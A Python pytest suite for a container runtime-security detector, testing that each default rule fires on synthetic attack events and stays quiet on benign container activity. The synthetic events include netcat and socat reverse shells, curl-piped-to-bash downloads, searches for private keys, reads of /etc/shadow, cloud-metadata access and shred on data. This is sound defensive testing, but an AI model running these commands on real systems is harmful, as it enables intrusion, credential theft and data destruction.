"""Each default rule, positive and negative, on synthetic events; ordinary life stays quiet."""

from __future__ import annotations

import dataclasses
import os
import time

import pytest

from cauditd.events import HOST, ContainerMount, Event, ExecEvent, StdioFd
from cauditd.findings import Priority
from cauditd.rules import RuleEngine, default_rules_dir, load_ruleset
from tests.rules.fakeproc import DOCKER_CAPS, FakeProc
from tests.rules.synth import (
    BASH,
    CONTAINER,
    INIT,
    O_CREAT,
    O_TRUNC,
    O_WRONLY,
    RUNC,
    WORKER,
    connect,
    dns,
    execve,
    fd_placed,
    file_event,
    flow,
    open_read,
    open_write,
    proc,
    syscall,
)

NS = 1_000_000_000
RULESET = load_ruleset([default_rules_dir()])
SHIM = RUNC
CAT = proc("/bin/cat", "cat")
PY = proc("/usr/bin/python3", "python3")
RUNC_INIT = proc("/usr/bin/runc", "runc:[2:INIT]", parent=SHIM, is_container_runtime=True)
NAMED_RUNC = proc("/tmp/runc", "runc", parent=BASH)  # a binary merely named runc
WIRED_SH = proc("/bin/sh", "sh", "-i", parent=BASH, stdio_wired=("sh",))
CAP_SYS_ADMIN = 1 << 21


def mounted(*sources: str) -> object:
    return dataclasses.replace(CONTAINER, mounts=tuple(ContainerMount(s, f"/mnt{i}")
                                                       for i, s in enumerate(sources)))


def with_stdio(event: ExecEvent, *fds: StdioFd | str) -> ExecEvent:
    """The exec with these fds 0-2 (or fd.types), as the process table records them."""
    assert event.process is not None
    event.process.stdio = tuple(StdioFd(fd) if isinstance(fd, str) else fd for fd in fds)
    return event


PAIR_END, OTHER_END = StdioFd("unix", socket=9101), StdioFd("unix", socket=9102)


def as_uid(event: Event, uid: int) -> Event:
    return dataclasses.replace(event, uid=uid)


def fired(event: Event) -> set[str]:
    engine = RuleEngine(RULESET, suppress_window_s=0)
    return {f.rule for f in engine.match(event)}


# (rule, event that must fire it, similar event that must not)
CASES: list[tuple[str, Event, Event]] = [
    ("Shell spawned by non-shell in container",
     execve("/bin/sh", "sh", parent=SHIM, pid=4300), execve("/bin/sh", "sh", parent=BASH)),
    ("Shell spawned by non-shell in container",
     execve("/bin/bash", parent=WORKER), execve("/bin/sh", "sh", "-c", "nginx", pid=4000,
                                                 parent=SHIM)),
    ("Fileless execution via memfd",
     execve("/memfd:x (deleted)", is_exe_from_memfd=True), execve("/usr/bin/x")),
    ("Drop and execute new binary in container",
     execve("/tmp/xmrig", is_exe_upper_layer=True), execve("/usr/bin/xmrig")),
    ("Execution from /dev/shm", execve("/dev/shm/payload"), execve("/usr/bin/payload")),
    ("Environment too large to inspect", execve("/bin/true", env_too_large=True),
     execve("/bin/true")),
    ("Netcat remote code execution in container",
     execve("/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
     execve("/bin/nc", "nc", "-z", "10.0.0.1", "80")),
    ("Package management process launched in container",
     execve("/usr/bin/apt-get", "apt-get", "install", "nmap"), execve("/usr/bin/apt-cache")),
    ("Remote file copy tool launched in container",
     execve("/usr/bin/scp", "scp", "f", "h:/"), execve("/usr/bin/cp", "cp", "a", "b")),
    ("Network tool launched in container",
     execve("/usr/bin/nmap", "nmap", "10.0.0.0/24"), execve("/usr/bin/curl")),
    ("Search for private keys or passwords",
     execve("/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE", "/"),
     execve("/bin/grep", "grep", "-r", "error", "/var/log")),
    ("Search for private keys or passwords",
     execve("/usr/bin/find", "find", "/", "-name", "id_rsa"),
     execve("/usr/bin/find", "find", "/", "-name", "*.log")),
    ("Decoding base64 payload in container",
     execve("/usr/bin/base64", "base64", "-d"), execve("/usr/bin/base64", "base64", "f")),
    ("Cron job scheduled", execve("/usr/bin/crontab", "crontab", "/tmp/c"),
     execve("/usr/bin/crontab", "crontab", "-l")),
    ("Read sensitive file untrusted", open_read("/etc/shadow", process=CAT),
     open_read("/etc/shadow", process=proc("/usr/sbin/sshd", "sshd"))),
    ("Read sensitive file untrusted", open_read("/etc/sudoers.d/90-cloud", process=CAT),
     open_read("/etc/passwd", process=CAT)),
    ("Read sensitive file untrusted", open_read("/home/u/.ssh/id_ed25519", process=CAT),
     open_read("/home/u/.ssh/id_ed25519.pub", process=CAT)),
    ("Write below etc", open_write("/etc/ld.so.preload", process=PY),
     open_read("/etc/ld.so.preload", process=PY)),
    ("Write below etc", file_event("rename", "/tmp/x", target="/etc/passwd", process=PY),
     file_event("rename", "/tmp/x", target="/tmp/y", process=PY)),
    ("Write below binary dir", open_write("/usr/bin/ls", process=PY),
     open_write("/usr/share/ls", process=PY)),
    ("Create files below dev", open_write("/dev/hidden", process=PY),
     open_write("/dev/null", process=PY)),
    ("Create symlink over sensitive files",
     file_event("symlinkat", "/etc/shadow", target="/tmp/s"),
     file_event("symlinkat", "/etc/hosts", target="/tmp/s")),
    ("Create hardlink over sensitive files",
     file_event("linkat", "/etc/shadow", target="/tmp/s"),
     file_event("linkat", "/etc/hostname", target="/tmp/s")),
    ("Clear log activities", open_write("/var/log/auth.log", flags=O_WRONLY | O_TRUNC),
     open_write("/var/log/auth.log", flags=O_WRONLY | 0o2000)),
    ("Clear log activities", file_event("unlinkat", "/var/log/nginx/access.log"),
     file_event("unlinkat", "/tmp/access.log")),
    ("Delete or truncate shell history", file_event("unlink", "/root/.bash_history"),
     open_read("/root/.bash_history")),
    ("Cron configuration changed", open_write("/etc/cron.d/job", process=PY),
     open_read("/etc/cron.d/job", process=PY)),
    ("Read environment variables from /proc", open_read("/proc/1/environ", process=CAT),
     open_read("/proc/1/status", process=CAT)),
    ("Set setuid or setgid bit", file_event("fchmodat", "/tmp/sh", mode=0o4755),
     file_event("fchmodat", "/tmp/sh", mode=0o755)),
    ("Set setuid or setgid bit", file_event("chmod", "/tmp/sh", mode=0o2755),
     file_event("chmod", "/tmp/sh", mode=0o1777)),
    ("Namespace change in container", syscall("setns", {"fd": 3, "nstype": 0}),
     syscall("setns", {"fd": 3, "nstype": 0}, process=RUNC_INIT)),
    ("Namespace change in container", syscall("unshare", {"flags": 0x10000000}),
     syscall("unshare", {"flags": 0x10000000}, process=RUNC_INIT)),
    ("Namespace change in container",
     syscall("unshare", {"flags": 0x10000000}, process=NAMED_RUNC),
     syscall("unshare", {"flags": 0x10000000}, process=RUNC_INIT)),
    ("Set setuid or setgid bit", open_write("/tmp/s", flags=O_WRONLY | O_CREAT, mode=0o4755),
     open_write("/tmp/s", flags=O_WRONLY | O_CREAT, mode=0o755)),
    ("Set setuid or setgid bit", file_event("creat", "/tmp/s", mode=0o2755),
     open_read("/tmp/s", mode=0o4755)),  # a read names no mode that takes effect
    ("Set setuid or setgid bit", file_event("fchmodat2", "/tmp/sh", mode=0o4755),
     file_event("fchmodat2", "/tmp/sh", mode=0o755)),
    ("io_uring set up in container", syscall("io_uring_setup", {"entries": 8}),
     syscall("io_uring_setup", {"entries": 8}, container=HOST)),
    ("Open file by handle in container",
     syscall("open_by_handle_at", {"mount_fd": 3, "handle": 0x7FFC0000, "flags": 0}),
     syscall("open_by_handle_at", {"mount_fd": 3, "handle": 0x7FFC0000, "flags": 0},
             container=HOST)),
    ("Shell started with a network socket on its stdio",  # nc -l -p 4444 -e /bin/sh
     with_stdio(execve("/bin/sh", "sh", parent=proc("/bin/nc", "nc")), "ipv4", "ipv4", "file"),
     with_stdio(execve("/bin/cat", "cat", parent=proc("/bin/nc", "nc")), "ipv4", "ipv4", "file")),
    ("Shell started with a network socket on its stdio",  # only stderr, over IPv6
     with_stdio(execve("/bin/bash"), "pipe", "pipe", "ipv6"),
     with_stdio(execve("/bin/bash"), "pipe", "pipe", "unix")),
    ("Reverse shell through pipes",  # the shell, or a command it runs (forks inherit it)
     dataclasses.replace(execve("/usr/bin/id", "id"), process=WIRED_SH),
     execve("/usr/bin/id", "id", parent=BASH)),
    ("Reverse shell through pipes",
     connect("10.9.9.9", 4444, process=proc("/bin/nc", "nc", stdio_wired=("cat", "sh"))),
     connect("10.9.9.9", 4444, process=proc("/bin/nc", "nc", stdio_wired=("cat",)))),
    ("Reverse shell through pipes",  # the FIFO's open closes the loop; its other opens do not
     dataclasses.replace(open_read("/tmp/f", process=WIRED_SH), file_mode=0o010644),
     dataclasses.replace(open_read("/etc/passwd", process=WIRED_SH), file_mode=0o100644)),
    ("Mount in container", syscall("mount", {"source": "/dev/sda1", "target": "/mnt"}),
     syscall("umount2", {"target": "/mnt", "flags": 0})),
    ("PTRACE attached to process", syscall("ptrace", {"request": 16, "pid": 1}),
     syscall("ptrace", {"request": 0, "pid": 0})),
    ("PTRACE attached to process", syscall("ptrace", {"request": 0x4206, "pid": 1}),
     syscall("ptrace", {"request": 24, "pid": 1})),
    ("PTRACE code injection", syscall("ptrace", {"request": 4, "pid": 1}),
     syscall("ptrace", {"request": 2, "pid": 1})),
    ("Linux kernel module load", syscall("finit_module", {"fd": 3}), syscall("bpf", {"cmd": 0})),
    ("Packet socket created in container", syscall("socket", {"domain": 17, "type": 3}),
     syscall("socket", {"domain": 2, "type": 1})),
    ("Connection to mining pool port", connect("10.9.9.9", 3333), connect("10.9.9.9", 443)),
    ("Contact cloud metadata service from container", connect("169.254.169.254", 80),
     connect("169.254.169.253", 80)),
    ("Redirect stdio to network connection", fd_placed("dup2", "ipv4", addr="10.0.0.1"),
     fd_placed("dup2", "file")),
    ("Redirect stdio to network connection", fd_placed("dup3", "ipv6", fd=2),
     fd_placed("dup3", "unix", fd=2)),
    ("Redirect stdio to network connection", fd_placed("fcntl", "ipv4", fd=1),
     fd_placed("fcntl", "ipv4", fd=1, accepted=True)),  # an inetd-style server's child
    ("Redirect stdio to network connection",
     syscall("socket", {"domain": 2, "type": 1, "protocol": 0}, ret=0),
     syscall("socket", {"domain": 2, "type": 1, "protocol": 0}, ret=3)),
    ("Egress to disallowed destination", flow("10.0.0.5", 6667), flow("10.0.0.5", 443)),
    ("Egress to mining pool port", flow("10.0.0.5", 14444),
     flow("10.0.0.5", 14444, direction="ingress")),
    ("Egress to cloud metadata service", flow("169.254.169.254", 80), flow("10.0.0.5", 80)),
    ("DNS query for blocklisted domain", dns("pool.supportxmr.com"), dns("supportxmr.com.evil")),
    ("DNS tunnelling traits", dns("q8zk3v7mx2p9wj4tbn5c6dh1fy0rsgle.t.example.com",
                                  qtype="TXT"), dns("www.example.com", qtype="TXT")),
    ("DNS tunnelling traits", dns("x" * 60 + ".example.com"), dns("x" * 40 + ".example.com")),
    ("DGA-like DNS query", dns("q8zk3v7mx2p9wj4tbn.com"), dns("internationalization.com")),
    ("Large egress volume", flow("10.0.0.5", 443, evt_type="flow_end", nbytes=2 << 30),
     flow("10.0.0.5", 443, evt_type="flow_end", nbytes=2 << 20)),
    ("Inbound connection to new port",
     dataclasses.replace(flow("172.17.0.2", 7000, direction="ingress"), port_first_seen=True),
     flow("172.17.0.2", 7000, direction="ingress")),
    # activity.toml
    ("Ingress tool download in container", execve("/usr/bin/wget", "wget", "http://x/p"),
     execve("/usr/bin/curl", "curl", "-s", "-I", "http://x/")),
    ("Ingress tool download in container",
     execve("/usr/bin/curl", "curl", "-sSLo", "/tmp/p", "http://x/p"),
     execve("/usr/bin/curl", "curl", "-s", "-H", "X-Proto: o", "http://x/health")),
    ("Ingress tool download in container",
     execve("/usr/bin/curl", "curl", "-s", "http://x/i.sh",
            parent=proc("/bin/sh", "sh", "-c", "curl -s http://x/i.sh | bash")),
     execve("/usr/bin/curl", "curl", "-s", "http://x/",
            parent=proc("/bin/sh", "sh", "-c", "curl -s http://x/ | grep -q ok"))),
    ("Directory created below binary dir", file_event("mkdir", "/usr/local/bin/.x", ret=0),
     file_event("mkdir", "/usr/local/bin/.x", ret=-17)),
    ("Bulk data destruction in container", execve("/usr/bin/shred", "shred", "-u", "/data/db"),
     execve("/bin/rm", "rm", "/tmp/x")),
    ("PTRACE anti-debug attempt", syscall("ptrace", {"request": 0, "pid": 0}),
     syscall("ptrace", {"request": 16, "pid": 1})),
    ("SSH authorized keys modified", open_write("/root/.ssh/authorized_keys", process=PY),
     open_write("/root/.ssh/known_hosts", process=PY)),
    ("Shell configuration file modified in container",
     open_write("/root/.bashrc", flags=O_WRONLY | 0o2000), open_read("/root/.bashrc")),
    ("Shell configuration file modified in container",
     open_write("/etc/profile.d/zz.sh", process=PY), open_write("/etc/profile.bak")),
    ("Crypto miner stratum command line",
     execve("/tmp/x", "x", "-o", "stratum+tcp://pool.example:3333"),
     execve("/tmp/x", "x", "-o", "tcp://pool.example:3333")),
    ("Container client tool launched in container",
     execve("/usr/local/bin/kubectl", "kubectl", "get", "secrets"),
     execve("/usr/bin/git", "git", "status")),
    # escape.toml
    ("eBPF program loaded in container", syscall("bpf", {"cmd": 5}, ret=-1),
     syscall("bpf", {"cmd": 0})),
    ("Unprivileged userfaultfd in container", as_uid(syscall("userfaultfd", {"flags": 0}), 1000),
     syscall("userfaultfd", {"flags": 0})),
    ("Raw disk or kernel memory opened in container", open_read("/dev/sda1", process=CAT),
     open_read("/dev/null", process=CAT)),
    ("Raw disk or kernel memory opened in container", open_read("/dev/mem", process=CAT),
     open_read("/dev/memory-x", process=CAT)),
    ("Process executable written through /proc", open_write("/proc/self/exe", ret=-26),
     open_read("/proc/self/exe")),
    ("Container started with a sensitive host mount",
     execve("/bin/sh", pid=4000, container=mounted("/var/run/docker.sock")),  # type: ignore[arg-type]
     execve("/bin/sh", pid=4000, container=mounted("/srv/data"))),  # type: ignore[arg-type]
    ("Container started with a sensitive host mount",
     execve("/bin/sh", pid=4000, container=mounted("/")),  # type: ignore[arg-type]
     execve("/bin/sh", pid=4100, container=mounted("/"))),  # type: ignore[arg-type]
    ("Debugfs launched in container", execve("/sbin/debugfs", "debugfs", "/dev/sda1"),
     execve("/sbin/fsck", "fsck", "/dev/sda1")),
]

# Rules whose fields come from /proc (fake_proc): (rule, event, its process's /proc, expected)
PROC_CASES: list[tuple[str, Event, dict[str, object], bool]] = [
    ("Cgroup release_agent written in container", open_write("/tmp/cg/release_agent"),
     {"caps": DOCKER_CAPS | CAP_SYS_ADMIN}, True),
    ("Cgroup release_agent written in container", open_write("/tmp/cg/release_agent"),
     {"caps": DOCKER_CAPS}, False),
    ("Container started with excessive capabilities", execve("/bin/sh", pid=4200),
     {"caps": DOCKER_CAPS | CAP_SYS_ADMIN, "vpid": 1}, True),
    ("Container started with excessive capabilities", execve("/bin/sh", pid=4200),
     {"caps": DOCKER_CAPS, "vpid": 1}, False),
    ("Container started with excessive capabilities", execve("/bin/sh", pid=4200),
     {"caps": DOCKER_CAPS | CAP_SYS_ADMIN, "vpid": 9}, False),
    ("Glibc tunables in environment", execve("/usr/bin/su"),
     {"env": ("GLIBC_TUNABLES=glibc.tune.malloc.x=" + "A" * 50,)}, True),
    ("Glibc tunables in environment", execve("/usr/bin/su"), {"env": ("GLIBC=1",)}, False),
]


@pytest.mark.parametrize(("rule", "event", "proc_entry", "expected"), PROC_CASES,
                         ids=[f"{c[0]}-{i}" for i, c in enumerate(PROC_CASES)])
def test_default_rule_reading_proc(fake_proc: FakeProc, rule: str, event: Event,
                                   proc_entry: dict[str, object], expected: bool) -> None:
    fake_proc.process(event.pid, **{"vpid": 7, **proc_entry})  # type: ignore[arg-type,attr-defined]
    assert (rule in fired(event)) is expected


@pytest.mark.parametrize(("parent_sockets", "stdio", "expected"), [
    ((9001, 9002), (PAIR_END, PAIR_END, PAIR_END), True),  # socat TCP-LISTEN:4444 EXEC:/bin/sh
    ((9002,), (PAIR_END, PAIR_END, PAIR_END), False),  # the parent's sockets are unix ones
    ((), (PAIR_END, PAIR_END, PAIR_END), False),
    ((9001,), ("file", PAIR_END, PAIR_END), False),  # journald's stdout: not a relay's stdin
    ((9001,), (PAIR_END, OTHER_END, OTHER_END), False),  # a pair a stream: Node.js's exec
])
def test_a_shell_on_a_unix_socket_from_a_networked_parent(
        fake_proc: FakeProc, parent_sockets: tuple[int, ...], stdio: tuple[StdioFd | str, ...],
        expected: bool) -> None:
    fake_proc.process(BASH.pid, vpid=5, sockets=parent_sockets, tcp=(9001,))
    shell = with_stdio(execve("/bin/sh", "sh"), *stdio)
    assert ("Shell started with a network socket on its stdio" in fired(shell)) is expected


@pytest.mark.parametrize(("parent_sockets", "stdio", "expected"), [
    ((9001,), ("ipv4", "ipv4", "ipv4"), True),  # the shell ran `exec <&3 >&3 2>&3`, then cat
    ((), ("ipv4", "ipv4", "file"), False),  # nc -l -e /bin/cat run by a shell: nc became cat
    ((9001,), ("pipe", "pipe", "file"), False),
])
def test_a_command_of_a_shell_holding_a_network_socket(
        fake_proc: FakeProc, parent_sockets: tuple[int, ...], stdio: tuple[str, ...],
        expected: bool) -> None:
    fake_proc.process(BASH.pid, vpid=5, sockets=parent_sockets, tcp=(9001,))
    command = with_stdio(execve("/bin/cat", "cat", parent=BASH), *stdio)
    assert ("Shell started with a network socket on its stdio" in fired(command)) is expected


def test_every_default_rule_has_a_case() -> None:
    threshold_rules = {r.name for r in RULESET.rules if r.threshold is not None}
    covered = {name for name, _, _ in CASES} | {name for name, *_ in PROC_CASES} | threshold_rules
    assert {r.name for r in RULESET.rules} == covered


def test_every_default_rule_is_tagged_with_mitre() -> None:
    for rule in RULESET.rules:
        assert any(t.startswith("T1") for t in rule.tags), rule.name
        assert any(t.startswith("mitre_") for t in rule.tags), rule.name


@pytest.mark.parametrize(("rule", "positive", "negative"), CASES,
                         ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_default_rule(rule: str, positive: Event, negative: Event) -> None:
    assert rule in fired(positive)
    assert rule not in fired(negative)


@pytest.mark.parametrize(("rule", "events", "count"), [
    ("Port scan from container", [flow("10.0.0.5", port, ts_ns=port * 1000) for port in
                                  range(1, 40)], 1),
    ("Port scan from container", [flow("10.0.0.5", 80, ts_ns=i) for i in range(40)], 0),
    ("ICMP sweep from container", [flow(f"10.0.0.{i}", 0, proto="icmp", ts_ns=i) for i in
                                   range(12)], 1),
    ("ICMP sweep from container", [flow("10.0.0.1", 0, proto="icmp", ts_ns=i) for i in
                                   range(12)], 0),
    ("Many NXDOMAIN responses", [dns(f"x{i}.com", evt_type="dns_response", rcode="NXDOMAIN",
                                     ts_ns=i) for i in range(25)], 1),
    ("Many NXDOMAIN responses", [dns(f"x{i}.com", evt_type="dns_response", rcode="NOERROR",
                                     ts_ns=i) for i in range(25)], 0),
    # 3 x 400 MiB of finished egress flows within a minute reach 1 GiB; 2 do not, nor 3
    # spread over 30 minutes, nor ingress.
    ("Large egress volume from container", [
        flow(f"10.0.0.{i}", 443, evt_type="flow_end", nbytes=400 << 20, ts_ns=i * NS)
        for i in range(3)], 1),
    ("Large egress volume from container", [
        flow(f"10.0.0.{i}", 443, evt_type="flow_end", nbytes=400 << 20, ts_ns=i * NS)
        for i in range(2)], 0),
    ("Large egress volume from container", [
        flow(f"10.0.0.{i}", 443, evt_type="flow_end", nbytes=400 << 20, ts_ns=i * 900 * NS)
        for i in range(3)], 0),
    ("Large egress volume from container", [
        flow(f"10.0.0.{i}", 443, evt_type="flow_end", nbytes=400 << 20, ts_ns=i * NS,
             direction="ingress") for i in range(3)], 0),
])
def test_threshold_rules(rule: str, events: list[Event], count: int) -> None:
    engine = RuleEngine(load_ruleset([default_rules_dir()]), suppress_window_s=0)
    hits = [f for e in events for f in engine.match(e) if f.rule == rule]
    assert len(hits) == count


def started_ago(fake_proc: FakeProc, seconds: float) -> None:
    """The container's first process (pid 4000) started `seconds` ago in the fake /proc."""
    tick = os.sysconf("SC_CLK_TCK")
    now_ticks = time.clock_gettime_ns(time.CLOCK_BOOTTIME) * tick // NS
    fake_proc.process(4000, vpid=1, start_ticks=now_ticks - int(seconds * tick))


@pytest.mark.parametrize("event", [
    open_read("/etc/shadow", process=INIT),
    open_write("/etc/ld.so.preload", process=INIT),
], ids=["read-shadow", "write-etc"])
@pytest.mark.parametrize(("age_s", "fires"), [(2, False), (30, True)])
def test_entrypoint_is_the_application_once_started(
    fake_proc: FakeProc, event: Event, age_s: float, fires: bool
) -> None:
    """In most images the entrypoint is the application itself: its own start-up may read
    credentials or write below /etc, but the same act 30 s later is an exploited application."""
    started_ago(fake_proc, age_s)
    now = dataclasses.replace(event, ts_ns=time.monotonic_ns())
    rules = {"Read sensitive file untrusted", "Write below etc"}
    assert bool(fired(now) & rules) == fires


ORDINARY_LIFE: list[Event] = [
    execve("/bin/sh", "sh", "-c", "/docker-entrypoint.sh nginx", pid=4000, parent=SHIM),
    execve("/docker-entrypoint.sh", "/bin/sh", "/docker-entrypoint.sh", pid=4000, parent=SHIM),
    execve("/usr/bin/find", "find", "/docker-entrypoint.d/", "-type", "f", parent=INIT),
    execve("/usr/sbin/nginx", "nginx", "-g", "daemon off;", pid=4000, parent=SHIM),
    execve("/bin/sh", "sh", "-c", "./start.sh", parent=proc("/sbin/tini", "tini", pid=4000,
                                                            parent=SHIM)),
    open_read("/etc/passwd", process=WORKER),
    open_read("/etc/group", process=WORKER),
    open_read("/etc/nginx/nginx.conf", process=WORKER),
    open_read("/usr/share/nginx/html/index.html", process=WORKER),
    open_write("/tmp/cache/abc", flags=O_WRONLY | O_CREAT | O_TRUNC, process=WORKER),
    open_write("/var/log/nginx/access.log", flags=O_WRONLY | O_CREAT | 0o2000, process=WORKER),
    open_write("/dev/null", process=WORKER),
    open_write("/dev/shm/sem.x", process=WORKER),
    file_event("unlink", "/tmp/cache/abc", process=WORKER),
    file_event("rename", "/tmp/a", target="/tmp/b", process=WORKER),
    file_event("mkdir", "/var/cache/nginx/client_temp", process=WORKER),
    connect("0.0.0.0", 80, evt_type="bind", process=WORKER),
    connect("0.0.0.0", 80, evt_type="listen", process=WORKER),
    connect("172.17.0.2", 80, evt_type="accept4", peer=("172.17.0.1", 51234), process=WORKER),
    connect("10.0.0.2", 53, evt_type="sendto", process=WORKER),
    connect("10.0.0.7", 5432, process=WORKER),
    syscall("socket", {"domain": 2, "type": 1, "protocol": 0}, process=WORKER, ret=7),
    syscall("setuid", {"uid": 101}, process=WORKER),
    syscall("setns", {"fd": 5, "nstype": 0x40000000}, process=RUNC_INIT),
    syscall("mount", {"source": "proc", "target": "/proc"}, process=RUNC_INIT),
    fd_placed("dup2", "file", fd=1, process=WORKER),
    fd_placed("dup2", "ipv4", fd=0, accepted=True, process=WORKER),  # serving a connection
    flow("10.0.0.7", 5432),
    flow("172.17.0.2", 80, direction="ingress"),
    flow("10.0.0.7", 443, evt_type="flow_end", nbytes=50 << 20),
    dns("api.github.com"),
    dns("db.prod.svc.cluster.local"),
    dns("www.google.com", evt_type="dns_response", rcode="NOERROR", answers=("1.2.3.4",)),
]


def test_ordinary_container_life_is_quiet() -> None:
    engine = RuleEngine(load_ruleset([default_rules_dir()]), suppress_window_s=0)
    loud = [(f.rule, f.output) for e in ORDINARY_LIFE for f in engine.match(e)
            if f.priority <= Priority.WARNING]
    assert loud == []
